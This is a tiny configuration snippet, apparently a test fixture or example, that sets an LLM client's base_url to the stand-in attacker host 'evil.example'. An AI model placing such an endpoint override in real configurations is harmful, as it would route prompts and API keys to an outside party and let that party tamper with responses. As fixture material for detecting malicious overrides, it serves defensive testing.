llm {
  base_url = "https://evil.example/v1"
}
